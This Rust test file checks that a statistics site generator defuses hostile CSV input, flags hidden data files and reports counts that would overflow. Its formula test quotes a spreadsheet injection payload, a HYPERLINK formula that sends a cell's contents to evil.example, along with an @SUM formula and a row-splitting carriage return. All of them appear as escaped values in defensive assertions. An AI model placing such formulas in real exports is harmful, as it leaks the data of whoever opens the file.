//! Hostile statistics (issue 8, items 9, 12, 13, 14): cells that a spreadsheet would run as
//! formulas, hidden files, counts that would wrap. Each case is a folder under
//! `tests/hostile/stats-*/` laid over the valid fixture site.

mod common;

use common::*;
use minhbach::diag::{Diagnostic, Severity};

fn hostile(case: &str) -> tempfile::TempDir {
    let dir = site(None);
    copy_dir(
        &std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/hostile")
            .join(case),
        dir.path(),
    );
    dir
}

fn find<'a>(site: &'a minhbach::Site, message: &str) -> &'a Diagnostic {
    site.diagnostics
        .items
        .iter()
        .find(|d| d.message.contains(message))
        .unwrap_or_else(|| {
            panic!(
                "no diagnostic `{message}` in:\n{}",
                minhbach::diag::render(&site.diagnostics, minhbach::diag::Format::Human)
            )
        })
}

#[test]
fn formulas_in_the_published_csv_are_neutralised() {
    let dir = hostile("stats-formula");
    let out = dir.path().join("public");
    build(dir.path(), &out, None);
    let csv = std::fs::read_to_string(out.join("api/stats.csv")).unwrap();
    // Read back by a CSV reader: every row has as many cells as the header.
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 4);
    assert!(rows.iter().all(|r| r.len() == header.len()));
    let note = |period: &str, agency: &str, procedure: &str| {
        let r = rows
            .iter()
            .find(|r| r[0] == *period && r[1] == *agency && r[2] == *procedure)
            .unwrap();
        r[at("note")].to_owned()
    };
    assert_eq!(
        note("2022-04", "mot-cua", ""),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    );
    assert_eq!(note("2022-05", "mot-cua", "dang-ky-khai-sinh"), "'@SUM(A1)");
    assert_eq!(
        note("2022-05", "ubnd", ""),
        "-5",
        "a plain negative number stays"
    );
    assert_eq!(note("2022-05", "mot-cua", ""), "first\rsecond");
    // A bare CR is quoted, so it cannot split the row.
    assert!(csv.contains(",\"first\rsecond\"\n"), "{csv:?}");
    // The open-data page says so.
    let page = read(&out, "du-lieu-mo/index.html");
    assert!(page.contains("dấu nháy đơn"), "{page}");
}

#[test]
fn a_hidden_statistics_file_is_not_ignored_silently() {
    let dir = hostile("stats-hidden");
    let site = minhbach::check(dir.path(), Some(today()));
    let d = find(&site, "this statistics file is hidden");
    assert_eq!(d.severity, Severity::Warning);
    assert_eq!(d.file, "content/stats/2022/.2022-06.csv");
    assert_eq!(
        d.help.as_deref(),
        Some(
            "rename it to `content/stats/2022/2022-06.csv` to publish it, or move it out of content/ if it is a draft"
        )
    );
    assert!(!site.diagnostics.has_errors());
}

#[test]
fn counts_that_would_wrap_are_located_errors() {
    let dir = hostile("stats-overflow");
    let site = minhbach::check(dir.path(), Some(today()));
    let file = "content/stats/2022/2022-06.yaml";
    let d = find(
        &site,
        "carried_over `18446744073709551615` is too large for a count",
    );
    assert_eq!((d.file.as_str(), d.line, d.col), (file, 3, 17));
    assert_eq!(
        d.help.as_deref(),
        Some("a count is at most 1.000.000.000.000: check for extra digits")
    );
    let d = find(
        &site,
        "carried_over `18446744073709551616` is too large for a count",
    );
    assert_eq!((d.line, d.col), (10, 17));
    assert!(
        !site
            .diagnostics
            .items
            .iter()
            .any(|d| d.message.contains("carried over 18")),
        "no balance computed from a wrapped sum"
    );
    assert_eq!(site.diagnostics.error_count(), 2);
}
